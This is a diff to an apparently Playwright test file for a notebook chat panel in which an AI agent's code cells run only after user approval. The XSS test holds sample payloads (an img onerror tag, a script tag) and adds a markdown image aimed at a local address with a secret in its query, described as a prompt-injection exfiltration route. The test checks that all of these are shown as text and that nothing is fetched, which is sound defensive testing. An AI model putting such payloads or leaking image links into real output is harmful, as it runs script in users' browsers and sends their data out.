@@ -166,7 +166,7 @@ test.describe('Stop', () => {
 
 test('ask before running: Run, Edit and Skip', async ({ page }) => {
   await script([
-    '<execute>\nprint("first")\n</execute>',
+    '<execute>\nimport time\ntime.sleep(2)\nprint("first")\n</execute>',
     '<execute>\nprint("second")\n</execute>',
     '<execute>\nprint("third")\n</execute>',
     '<solution>done</solution>'
@@ -181,6 +181,9 @@ test('ask before running: Run, Edit and Skip', async ({ page }) => {
   // Nothing runs before the user says so.
   expect(await agentCells(page)).toHaveLength(0);
   await panel.getByRole('button', { name: 'Run', exact: true }).click();
+  // Once approved, the step and the chat say it runs, not that it waits.
+  await expect(stateLine(page)).toContainText('Running cell');
+  await expect(entries(page, 'action').nth(0)).toContainText('Running…');
   await expect(entries(page, 'observation').nth(0)).toContainText('first');
 
   await expect(entries(page, 'action').nth(1)).toContainText('print("second")');
@@ -196,7 +199,7 @@ test('ask before running: Run, Edit and Skip', async ({ page }) => {
 
   const cells = await agentCells(page);
   expect(cells.map(cell => cell.source)).toEqual([
-    'print("first")',
+    'import time\ntime.sleep(2)\nprint("first")',
     'print("edited")'
   ]);
   // The model was told what really ran, and that the third was skipped.
@@ -279,8 +282,17 @@ test('model text is shown as text: no HTML, no script runs', async ({
   });
   const img = '<img src=x onerror="window.__codeactXss = 1; alert(1)">';
   const scriptTag = '<script>window.__codeactXss = 2; alert(2)</script>';
+  // A markdown image would be fetched as soon as it is shown: a way out for
+  // data that a prompt injection could put in its URL.
+  const pixel = '![pixel](http://127.0.0.1:9/leak.png?secret=42)';
+  const fetched: string[] = [];
+  page.on('request', request => {
+    if (request.url().includes('leak.png')) {
+      fetched.push(request.url());
+    }
+  });
   await script([
-    `Look: ${img} and ${scriptTag} end.\n<solution>Answer ${img}</solution>`
+    `Look: ${img} and ${scriptTag} end. ${pixel}\n<solution>Answer ${img}</solution>`
   ]);
   await notebookWithChat(page, 'xss.ipynb');
   await ask(page, 'Show me HTML.');
@@ -298,6 +310,11 @@ test('model text is shown as text: no HTML, no script runs', async ({
     await page.evaluate(() => (window as any).__codeactXss)
   ).toBeUndefined();
   expect(dialogs).toEqual([]);
+  // The image is a link to click, not a request made behind the user's back.
+  await expect(
+    entries(page, 'assistant').locator('a', { hasText: 'pixel' })
+  ).toHaveCount(1);
+  expect(fetched).toEqual([]);
 });
 
 test('screenshots of the panel in the light and dark themes', async ({
